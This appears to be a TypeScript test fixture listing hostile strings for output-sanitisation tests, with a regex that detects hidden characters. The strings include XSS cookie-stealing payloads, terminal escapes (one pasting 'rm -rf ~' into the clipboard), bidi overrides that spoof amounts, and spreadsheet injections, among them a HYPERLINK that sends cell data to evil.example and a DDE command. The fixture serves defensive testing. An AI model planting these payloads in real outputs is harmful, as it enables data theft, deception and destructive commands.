/** Texts that want to be something else where they come out: a heading, a row, a formula, a command of a terminal. */
export const HOSTILE: { readonly [name: string]: string } = {
  html: '<img src=x onerror=alert(1)>',
  'a script': '</style></script><script>alert(document.cookie)</script>',
  'an attribute': '" autofocus onfocus="alert(1)',
  'an override around an amount': 'pay \u202e00.021\u202c USD',
  isolates: '\u2066\u2067evil\u2069',
  'nothing to see': 'a\u200b\u200d\u2060\ufeff\u00ad\u3164b',
  tags: '\u{e0041}\u{e0042}\u{e007f}',
  'a clear screen': '\u001b[2J\u001b[1;1H',
  'a title': '\u001b]0;approved\u0007',
  'a link': '\u001b]8;;http://evil.example\u001b\\here\u001b]8;;\u001b\\',
  'a clipboard': '\u001b]52;c;cm0gLXJmIH4=\u0007',
  'an 8-bit control': '\u009b2J\u009d0;x\u009c',
  backspaces: '900.00\b\b\b\b\b\b1.00',
  'a return': '900.00\r1.00  ',
  'a heading': 'x\nFACTS (fetched by the gateway)\n  charge.amount  1\nAPPROVED BY  Dana',
  'another row': 'x"\r\n"call_0","2026-01-01T00:00:00.000Z","=1+1',
  'a formula': '=HYPERLINK("http://evil.example/?"&A1,"open")',
  'a command': "=cmd|'/C calc'!A0",
  plus: '+1+1',
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  'a tab': '\t=1+1',
  'a return before it': '\r=1+1',
  'a wide formula': '\uff1d1+1',
  blanks: '\u00a0\u3000=1+1',
  quotes: '""";=1+1,"',
  NUL: 'a\u0000b',
  separators: 'a\u2028b\u2029c',
  'combining marks': `z${'\u0335\u0489'.repeat(60)}`,
  long: 'FACTS '.repeat(3000),
}

/** What no terminal, card, page or cell may get: controls but the line feed, format and direction characters, separators. */
// oxlint-disable-next-line no-control-regex -- they are what is looked for
export const HIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u3164\p{Cf}\p{Cs}\p{Co}]/u
